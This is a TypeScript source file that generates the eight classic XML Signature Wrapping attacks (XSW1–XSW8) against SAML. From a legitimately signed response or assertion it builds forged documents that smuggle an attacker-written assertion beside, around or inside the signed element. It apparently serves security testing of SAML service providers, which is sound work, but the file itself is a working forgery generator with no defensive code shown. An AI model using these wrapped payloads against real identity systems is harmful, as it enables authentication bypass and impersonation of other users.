const ASSERTION = /<saml:Assertion.*<\/saml:Assertion>/s;
const SIGNATURE = /<(?:ds:)?Signature\b.*<\/(?:ds:)?Signature>/s;

/**
 * The eight classic ways to put an assertion of one's own beside one that is signed (Somorovsky and others, "On Breaking SAML",
 * 2012), by name.
 * @param ofResponse an answer whose response is signed
 * @param ofAssertion one whose assertion is
 * @param mine what the attacker says, made from a signed element
 */
export function wrapped(
  ofResponse: string,
  ofAssertion: string,
  mine: (signed: string) => string,
): Record<string, string> {
  const evil = (xml: string) =>
    mine(xml).replace('ID="_assertion"', 'ID="_evil"').replace('ID="_response"', 'ID="_evil"');
  const original = ASSERTION.exec(ofAssertion)?.[0] ?? '';
  const [signature = ''] = SIGNATURE.exec(original) ?? [];
  const bare = original.replace(SIGNATURE, '');
  const [ofWhole = ''] = SIGNATURE.exec(ofResponse) ?? [];
  const bareResponse = ofResponse.replace(SIGNATURE, '');
  const put = (assertion: string) => ofAssertion.replace(ASSERTION, () => assertion);
  const inside = (outer: string, part: string, end: string) =>
    outer.replace(new RegExp(`</${end}>$`), () => `${part}</${end}>`);
  const evilBare = evil(bare);
  return {
    'XSW1: the response around its signed copy, in the signature': inside(
      evil(bareResponse),
      inside(ofWhole, `<Object>${bareResponse}</Object>`, endOf(ofWhole)),
      'samlp:Response',
    ),
    'XSW2: the signed response beside its signature': inside(
      evil(bareResponse),
      bareResponse + ofWhole,
      'samlp:Response',
    ),
    'XSW3: an assertion before the signed one': put(evilBare + original),
    'XSW4: the signed one in another': put(inside(evilBare, original, 'saml:Assertion')),
    'XSW5: the signature in another assertion, the signed one at the end': put(
      evilBare.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`) + bare,
    ),
    'XSW6: the signed one in the signature of another': put(
      evilBare.replace(
        '</saml:Issuer>',
        () => `</saml:Issuer>${inside(signature, `<Object>${bare}</Object>`, endOf(signature))}`,
      ),
    ),
    'XSW7: another in extensions': put(`<samlp:Extensions>${evilBare}</samlp:Extensions>${original}`),
    'XSW8: the signed one in an object of the signature': put(
      evilBare.replace(
        '</saml:Issuer>',
        () => `</saml:Issuer>${inside(signature, `<Object>${original}</Object>`, endOf(signature))}`,
      ),
    ),
  };
}

function endOf(signature: string): string {
  return signature.startsWith('<ds:') ? 'ds:Signature' : 'Signature';
}
